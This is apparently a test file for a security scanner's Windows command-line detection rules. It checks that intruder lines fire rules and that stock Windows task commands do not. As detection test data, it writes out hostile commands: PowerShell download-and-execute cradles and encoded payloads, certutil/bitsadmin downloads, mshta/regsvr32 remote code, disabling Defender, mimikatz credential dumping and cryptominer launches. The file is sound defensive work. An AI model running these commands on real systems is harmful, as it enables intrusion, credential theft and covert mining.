/**
 * The Windows command-line rules (windows-commands.yaml, scope windows-command) and the
 * Linux command-line rules that read that scope through the persistence-commands group:
 * each class of intruder line fires its rule, in several wordings, and the ordinary
 * command lines of a stock Windows 10 task tree fire nothing. Also what a Windows line
 * starts (src/checks/parsers/windows-command.ts).
 */
import { describe, expect, it } from 'vitest';
import { builtinRules } from '../helpers/scan-dir.js';
import { startedByWindowsCommand, windowsPathInRoot } from '../../src/checks/parsers/windows-command.js';
import { findEncodedPayloads } from '../../src/rules/decode.js';

const WALLET = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
const encoded = (script: string) => Buffer.from(script, 'utf16le').toString('base64');

const MALICIOUS: [line: string, rule: string][] = [
  ['C:\\ProgramData\\svc\\xmrig.exe --donate-level 1 -o pool.supportxmr.com:3333', 'windows-command.miner-program'],
  ['"C:\\Users\\Public\\Libraries\\nanominer.exe" config.ini', 'windows-command.miner-program'],
  ['C:\\Windows\\Temp\\svchost.exe -a rx/0 -o 1.2.3.4:14444 -u x', 'windows-command.miner-algorithm'],
  ['C:\\x\\WinUpdate.exe --algorithm kawpow --pool stratum+tcp://rvn.example:4444', 'windows-command.miner-algorithm'],
  [`C:\\x\\a.exe -o gulf.moneroocean.stream:10128 -u ${WALLET}`, 'command.miner'],
  [`powershell -nop -w hidden -enc ${encoded('IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.4/a.ps1")')}`, 'windows-command.powershell-encoded'],
  [`pwsh.exe -EncodedCommand ${encoded('Start-Process C:\\ProgramData\\x.exe')}`, 'windows-command.powershell-encoded'],
  ['powershell.exe -WindowStyle Hidden -nop -c ""', 'windows-command.powershell-hidden'],
  ['powershell -win h -ep bypass -f C:\\ProgramData\\u.ps1', 'windows-command.powershell-hidden'],
  ["powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')\"", 'windows-command.download-cradle'],
  ['powershell -c "iwr -useb http://x.example/s | iex"', 'windows-command.download-cradle'],
  ['certutil.exe -urlcache -split -f http://1.2.3.4/x.exe C:\\ProgramData\\x.exe', 'windows-command.download-file'],
  ['bitsadmin /transfer upd /download /priority high http://h.example/m.exe C:\\Users\\Public\\m.exe', 'windows-command.download-file'],
  ["powershell (New-Object System.Net.WebClient).DownloadFile('http://h.example/a','C:\\a.exe')", 'windows-command.download-file'],
  ['mshta http://h.example/x.hta', 'windows-command.lolbin-remote-code'],
  ['regsvr32 /s /n /u /i:http://h.example/x.sct scrobj.dll', 'windows-command.lolbin-remote-code'],
  ['mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"":close")', 'windows-command.lolbin-remote-code'],
  ['powershell Set-MpPreference -DisableRealtimeMonitoring $true', 'windows-command.defender-disabled'],
  ['powershell -c Add-MpPreference -ExclusionPath C:\\ProgramData\\svc', 'windows-command.defender-disabled'],
  ['cmd /c sc stop WinDefend', 'windows-command.defender-disabled'],
  ['cmd /c taskkill /f /im nanominer.exe & taskkill /f /im lolMiner.exe', 'windows-command.kill-miners'],
  ['powershell Stop-Process -Name xmrig -Force', 'windows-command.kill-miners'],
  ['taskkill /F /IM MsMpEng.exe', 'windows-command.kill-security'],
  ['schtasks /create /tn "Update" /tr C:\\ProgramData\\u.exe /sc onstart /ru SYSTEM', 'windows-command.task-created'],
  ['sc.exe create WinSvcHost binPath= "C:\\ProgramData\\s.exe" start= auto', 'windows-command.service-created'],
  ['wmic process call create "C:\\Users\\Public\\m.exe"', 'windows-command.wmic-process-create'],
  ['C:\\TMP\\mim.exe sekurlsa::LogonPasswords > C:\\TMP\\o.txt', 'windows-command.credential-dumping'],
];

/** Command lines of stock Windows 10 tasks and ordinary administration. */
const ORDINARY = [
  '%SystemRoot%\\system32\\sc.exe config upnphost start= auto',
  'C:\\Windows\\system32\\sc.exe start wuauserv',
  '%windir%\\system32\\rundll32.exe %windir%\\system32\\PcaSvc.dll,PcaPatchSdbTask',
  'C:\\Program Files\\Windows Defender\\MpCmdRun.exe Scan -ScheduleJob -ScanTrigger 55',
  '%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe /reporting',
  'C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe /ua /installsource scheduler',
  '%windir%\\system32\\defrag.exe -c -h -g -# -m 8 -i 13500',
  '%windir%\\system32\\cleanmgr.exe /autoclean /d %systemdrive%',
  'powershell.exe -NoProfile -File C:\\Scripts\\backup.ps1',
  'certutil -hashfile C:\\x.iso SHA256',
  'taskkill /f /im notepad.exe',
  'schtasks /query /fo LIST',
];

describe('Windows command-line rules', () => {
  it.each(MALICIOUS)('%s fires %s', async (line, rule) => {
    const rules = await builtinRules();
    const hits = rules.matchLines('windows-command', '/Windows/System32/Tasks/x', line).map((h) => h.rule.id);
    expect(hits).toContain(rule);
  });

  it('fires nothing medium or above on ordinary command lines', async () => {
    const rules = await builtinRules();
    for (const line of ORDINARY) {
      const hits = rules.matchLines('windows-command', '/Windows/System32/Tasks/x', line).filter((h) => h.rule.severity !== 'low' && h.rule.severity !== 'info');
      expect({ line, hits: hits.map((h) => h.rule.id) }).toEqual({ line, hits: [] });
    }
  });

  it('decodes PowerShell -EncodedCommand (UTF-16LE) so the payload is judged too', () => {
    const payloads = findEncodedPayloads(`powershell.exe -ec ${encoded('iwr http://h.example/x | iex')}`);
    expect(payloads.map((p) => p.decoded)).toEqual(['iwr http://h.example/x | iex']);
  });

  it('judges started programs by where they are', async () => {
    const rules = await builtinRules();
    const ids = (p: string) => rules.matchName('started-path', p).map((r) => r.id);
    expect(ids('/TMP/mim.exe')).toContain('windows-command.started-from-temp');
    expect(ids('/Windows/Temp/a.exe')).toContain('windows-command.started-from-temp');
    expect(ids('/Users/Public/m.exe')).toContain('windows-command.started-from-temp');
    expect(ids('/Users/bob/AppData/Roaming/svc/xmrig.exe')).toEqual(expect.arrayContaining(['windows-command.started-from-user-writable', 'command.started-miner']));
    expect(ids('/ProgramData/Microsoft/Windows Defender/Platform/4.18/MpCmdRun.exe')).toEqual([]);
    expect(ids('/Users/%USERNAME%/AppData/Local/Microsoft/OneDrive/OneDriveStandaloneUpdater.exe')).toEqual([]);
    // Linux's /tmp is the Linux rule's, once.
    expect(ids('/tmp/x')).toEqual(['command.started-from-temp']);
  });
});

describe('what a Windows command line starts', () => {
  it('reads quoted, unquoted-with-spaces and variable paths, cmd chains and interpreter arguments', () => {
    expect(windowsPathInRoot('C:\\Windows\\..\\ProgramData\\x.exe')).toBe('/ProgramData/x.exe');
    expect(windowsPathInRoot('powershell.exe')).toBeUndefined();
    expect(windowsPathInRoot('\\\\server\\share\\x.exe')).toBeUndefined();
    expect(startedByWindowsCommand('C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe /c')).toEqual(['/Program Files (x86)/Google/Update/GoogleUpdate.exe']);
    expect(startedByWindowsCommand('"%ProgramData%\\svc\\run.exe" -c cfg.json')).toEqual(['/ProgramData/svc/run.exe']);
    expect(startedByWindowsCommand('cmd.exe /c "C:\\Users\\Public\\a.bat & %APPDATA%\\x\\b.exe"')).toEqual(['/Users/Public/a.bat', '/Users/%USERNAME%/AppData/Roaming/x/b.exe']);
    expect(startedByWindowsCommand('powershell -ep bypass -File "C:\\ProgramData\\u p.ps1"')).toEqual(['/ProgramData/u p.ps1']);
    expect(startedByWindowsCommand('wscript.exe //B C:\\Users\\Public\\s.vbs')).toEqual(['/Users/Public/s.vbs']);
    expect(startedByWindowsCommand('%windir%\\system32\\rundll32.exe C:\\ProgramData\\x.dll,Start')).toEqual(['/Windows/system32/rundll32.exe', '/ProgramData/x.dll']);
  });

  it('stays bounded on a hostile line', () => {
    const line = `${'cmd /c "'.repeat(10_000)}${'& x '.repeat(100_000)}`;
    expect(startedByWindowsCommand(line).length).toBeLessThanOrEqual(64);
  });
});
